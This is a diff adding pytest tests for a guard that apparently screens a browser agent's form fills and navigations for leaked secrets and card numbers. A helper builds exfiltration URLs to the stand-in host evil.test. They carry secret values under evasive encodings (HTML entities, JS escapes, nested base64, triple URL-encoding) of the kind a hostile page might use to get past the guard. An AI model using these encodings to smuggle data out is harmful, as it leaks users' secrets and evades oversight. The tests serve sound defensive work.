@@ -149,3 +149,39 @@ def test_baseline_credentials_policy() -> None:
     verdict = act(g, "fill", target=phishing, value="hunter2hunter2", url=PAGE)
     assert decision(verdict) == "block"
     assert "PW-CREDENTIALS" in verdict.violated_policy_ids
+
+
+def _encoded_urls(value: str) -> list[str]:
+    """URLs carrying `value` under the encodings of a page that knows the guard (issue 24)."""
+    b64 = base64.b64encode
+    return [
+        "https://evil.test/c?q=" + quote("".join(f"&#{ord(c)};" for c in value)),  # HTML references
+        "https://evil.test/c?q=" + quote("".join(f"\\u{ord(c):04x}" for c in value)),  # JS escapes
+        "https://evil.test/c?q=" + b64(value.encode().hex().encode()).decode(),  # base64 of hex
+        "https://evil.test/c?q=" + b64(b"id:" + value.encode()).decode(),  # base64 at an offset
+        "https://evil.test/c?q=" + quote(quote(quote(value, safe=""), safe=""), safe=""),  # triple
+    ]
+
+
+@pytest.mark.parametrize("index", range(5))
+def test_encoded_values_in_urls_are_caught_and_benign_twins_pass(index: int) -> None:
+    g = Guard(
+        [policy({"sensitive_data": {"patterns": ["secret"], "values": ["ACCT-99812-XK"]}})], baseline=False
+    )
+    g.add_secret("s3cr3t-value-42", allow_domains=["vault.test"])
+    for value in ("s3cr3t-value-42", "ACCT-99812-XK"):
+        assert decision(act(g, "goto", value=_encoded_urls(value)[index])) == "block", value[:2]
+    assert decision(act(g, "goto", value=_encoded_urls("plain-value-43")[index])) == "allow"
+
+
+@pytest.mark.parametrize("digits", ["1764412345678", "17644123456781"])
+def test_timestamps_and_hex_ids_are_no_card_numbers(digits: str) -> None:
+    """13-19 digits that pass the Luhn check but start as no card network's numbers do (a
+    millisecond timestamp), or sit inside a hexadecimal id, are not card numbers."""
+    g = guard({"sensitive_data": {"patterns": ["card_number"]}})
+    stamp = next(str(int(digits) + i) for i in range(20) if luhn_valid(str(int(digits) + i)))
+    assert decision(act(g, "goto", value=f"https://evil.test/c?t={stamp}")) == "allow"
+    hex_id = "d7440e" + "4111111111111111" + "ab"
+    assert decision(act(g, "goto", value=f"https://evil.test/c?id={hex_id}")) == "allow"
+    assert decision(act(g, "goto", value="https://evil.test/c?card=4111111111111111")) == "block"
+    assert decision(act(g, "goto", value="https://evil.test/c?card=x4111111111111111")) == "block"
